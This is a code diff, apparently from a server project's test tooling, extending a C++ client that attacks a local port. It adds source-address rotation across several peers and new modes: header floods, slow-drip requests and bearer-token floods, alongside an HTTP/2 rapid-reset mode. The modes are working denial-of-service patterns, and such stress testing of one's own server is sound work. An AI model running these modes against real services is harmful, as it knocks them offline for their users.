@@ -1,6 +1,8 @@
 // A client as no server wants it. Attacks a port of this machine until it is killed.
 //
-//   ports_attacker PORT MODE [--tls] [--from=ADDRESS] [--connections=N]
+//   ports_attacker PORT MODE [--tls] [--from=ADDRESS] [--peers=N] [--connections=N]
+//
+// With several peers, connections take turns to come from ADDRESS and the addresses after it.
 //
 // Prints one line, beginning with "ready", when the attack has been carried out once, and then keeps it up: except for "idle", what the
 // server closes is opened again.
@@ -33,16 +35,18 @@ struct Settings {
   std::string mode;
   bool tls = false;
   std::string from = "127.0.0.2";
+  std::uint32_t peers = 1;
   std::size_t connections = 0;
 };
 
 // A connection; sending fails where the server has closed it, or does not read for two seconds.
 class Wire {
  public:
-  Wire(const Settings& settings, SSL_CTX* tls) : fd_(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
+  Wire(const Settings& settings, std::size_t index, SSL_CTX* tls) : fd_(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
     sockaddr_in at{};
     at.sin_family = AF_INET;
     inet_pton(AF_INET, settings.from.c_str(), &at.sin_addr);
+    at.sin_addr.s_addr = htonl(ntohl(at.sin_addr.s_addr) + static_cast<std::uint32_t>(index % settings.peers));
     // The port is chosen when the connection is made, so that it need only differ for the same server.
     const int on = 1;
     setsockopt(fd_, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof(on));
@@ -102,7 +106,7 @@ struct Attack {
   bool handshake = true;  // of TLS
   std::function<std::string()> begin;
   std::function<std::string(std::uint32_t turn)> more;  // null: it is silent
-  bool reads = false;                                   // an answer, once
+  bool reads = false;                                   // an answer in each turn
   bool again = true;                                    // what the server closes is opened again
 };
 
@@ -122,6 +126,16 @@ const std::map<std::string, Attack>& Attacks() {
        {.connections = 300,
         .begin = [] { return "GET /metrics HTTP/1.1\r\nHost: x\r\nX-Long: " + std::string(8000, 'x'); },
         .more = [](std::uint32_t) { return "x"; }}},
+      // The same with as many headers as possible, each of four bytes.
+      {"many-headers",
+       {.connections = 300,
+        .begin =
+            [] {
+              std::string out = "GET /healthz HTTP/1.1\r\nHost:a\r\n";
+              for (int i = 0; i < 440; ++i) out += "a:\r\n";
+              return out;
+            },
+        .more = [](std::uint32_t turn) { return turn % 1000 == 999 ? "a" : ""; }}},
       {"rapid-reset",
        {.connections = 8,
         .begin = [] { return http2::Preface(); },
@@ -154,6 +168,14 @@ const std::map<std::string, Attack>& Attacks() {
             },
         .more = {},
         .reads = true}},
+      {"tokens-kept-alive",
+       {.connections = 8,
+        .begin = [] { return std::string(); },
+        .more =
+            [](std::uint32_t) {
+              return "GET /metrics HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer made-up-" + std::to_string(++token) + "\r\n\r\n";
+            },
+        .reads = true}},
   };
   return attacks;
 }
@@ -180,18 +202,23 @@ int Run(const Settings& settings) {
   if (attack.begin().starts_with("PRI")) SSL_CTX_set_alpn_protos(tls.get(), reinterpret_cast<const unsigned char*>(both.data()), 3);
   const std::size_t wanted = settings.connections > 0 ? settings.connections : attack.connections;
   const std::size_t connections = Affordable(wanted);
-  const auto open = [&] { return std::make_unique<Wire>(settings, settings.tls && attack.handshake ? tls.get() : nullptr); };
+  const auto open = [&](std::size_t index) {
+    return std::make_unique<Wire>(settings, index, settings.tls && attack.handshake ? tls.get() : nullptr);
+  };
 
   std::vector<std::unique_ptr<Wire>> wires(connections);
   for (std::uint32_t turn = 0;; ++turn) {
-    for (std::unique_ptr<Wire>& wire : wires) {
+    for (std::size_t i = 0; i < wires.size(); ++i) {
+      std::unique_ptr<Wire>& wire = wires[i];
       if (wire == nullptr || (attack.again && !wire->open())) {
-        wire = open();
+        wire = open(i);
         const std::string begin = attack.begin();
         if (!begin.empty()) wire->Send(begin);
-        if (attack.reads) wire->Read();
       }
       if (attack.more) wire->Send(attack.more(turn));
+    }
+    if (attack.reads) {
+      for (const std::unique_ptr<Wire>& wire : wires) wire->Read();
     }
     if (turn == 1 || (turn == 0 && !attack.more)) {
       std::printf("ready: %zu connections%s\n", connections, connections < wanted ? ", because the limit of open files is low" : "");
@@ -214,6 +241,8 @@ int main(int argc, char** argv) {
       settings.tls = true;
     } else if (argument.starts_with("--from=")) {
       settings.from = argument.substr(7);
+    } else if (argument.starts_with("--peers=")) {
+      settings.peers = static_cast<std::uint32_t>(std::max(1UL, std::strtoul(argument.c_str() + 8, nullptr, 10)));
     } else if (argument.starts_with("--connections=")) {
       settings.connections = std::strtoul(argument.c_str() + 14, nullptr, 10);
     } else {
@@ -221,7 +250,7 @@ int main(int argc, char** argv) {
     }
   }
   if (rest.size() != 2) {
-    std::fprintf(stderr, "usage: ports_attacker PORT MODE [--tls] [--from=ADDRESS] [--connections=N]\n");
+    std::fprintf(stderr, "usage: ports_attacker PORT MODE [--tls] [--from=ADDRESS] [--peers=N] [--connections=N]\n");
     return 2;
   }
   settings.port = static_cast<std::uint16_t>(std::strtoul(rest[0].c_str(), nullptr, 10));
